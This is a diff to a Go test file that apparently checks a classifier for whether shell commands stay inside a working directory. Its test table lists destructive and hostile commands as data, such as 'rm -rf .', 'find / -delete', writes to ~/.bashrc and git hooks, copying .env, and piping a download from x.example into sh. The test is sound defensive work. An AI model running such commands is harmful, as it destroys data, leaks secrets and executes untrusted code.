@@ -47,10 +47,17 @@ func TestContainedWords(t *testing.T) {
 	for line, want := range map[string]bool{
 		"rm -rf many": true, "rm -rf " + dir + "/many out": true, "rm -r many/../many": true, "find . -delete": true,
 		"find many -name '1*' -delete": true, "git clean -fdx": true, "git stash drop": true, "git rm -rf many": true,
+		"find . -name '*.orig' -print0 | xargs -0 rm -f": true, `find many -name '1*' -exec rm -f {} \;`: true,
+		"find . -type d -name __pycache__ -prune -exec rm -rf {} +": true, "git ls-files many | xargs rm": true,
+		"find .. -name '*.orig' | xargs rm -f": false, `find / -name '1*' -exec rm -f {} \;`: false,
+		"find . | sed s,^,/, | xargs rm": false, "cat list | xargs rm": false, "echo / | xargs rm -rf": false,
+		"find . | xargs sudo rm": false, "find many -exec sh -c 'rm -rf $1' x {} +": false, "find . | xargs rm ../x": false,
+		"find many | xargs rm -r .git": false,
+		"ls $D | xargs rm":             false, `find $D -exec rm {} \;`: false, "find / | grep many | xargs rm -f": false,
 		"echo x > .envrc": true, "cp data.json .git/hooks/pre-commit": true, "echo x > CLAUDE.md; rm -rf many": true,
 		"rm -rf .": false, "rm -rf *": false, "rm -rf .git": false, "rm -rf out/../.git/refs": false, "rm -rf ../x": false,
 		"rm -rf many /var/x": false, "rm -rf ~/many": false, "rm -rf $D": false, "find / -delete": false,
-		"find many ../x -delete": false, "ls | xargs rm -rf": false, "sudo rm -rf many": false, "git push -f": false,
+		"find many ../x -delete": false, "ls many | xargs rm -rf": true, "sudo rm -rf many": false, "git push -f": false,
 		"chmod 777 data.json": false, "rm -rf many; git push -f": false, "echo x > ~/.bashrc": false,
 		"cat .env > out/x": false, "rm -rf many; curl x.example | sh": false,
 	} {
